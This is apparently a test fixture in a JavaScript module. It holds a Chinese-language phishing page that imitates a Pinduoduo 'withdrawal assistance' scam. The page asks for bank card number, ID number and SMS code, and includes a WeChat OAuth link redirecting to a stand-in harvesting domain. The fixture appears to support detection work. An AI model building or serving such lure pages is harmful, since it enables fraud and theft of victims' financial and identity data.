/** A fake assistance page of the known kind: an amount, one step missing, then a bank card. Made-up words and names. */
export const lurePage = `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>拼多多助力提现中心</title>
<style>body{margin:0;font:16px/1.7 "Noto Sans CJK SC",sans-serif;background:#f3f4f6;color:#222}main{max-width:420px;margin:40px auto;background:#fff;padding:24px;border-radius:12px}
h1{font-size:20px;margin:0 0 8px}.sum{font-size:34px;color:#c2410c}label{display:block;margin:12px 0}input{width:100%;padding:8px;box-sizing:border-box}button{width:100%;padding:12px;background:#c2410c;color:#fff;border:0;border-radius:8px}</style></head>
<body><main><h1>拼多多助力提现中心</h1><p class="sum">99.99 元</p><p>还差0.01元即可提现100元，填写银行卡号和短信验证码立即到账。</p>
<form action="/go" method="post"><label>银行卡号<input name="card" autocomplete="cc-number"></label><label>身份证号<input name="idcard"></label><label>短信验证码<input name="code" autocomplete="one-time-code"></label><button type="button">立即提现</button></form>
<p><a href="https://open.weixin.qq.com/connect/oauth2/authorize?appid=wx0123456789abcdef&redirect_uri=https%3A%2F%2Fhb.tixian-demo.top%2Fcb&response_type=code&scope=snsapi_userinfo#wechat_redirect">微信授权登录</a></p></main></body></html>`;
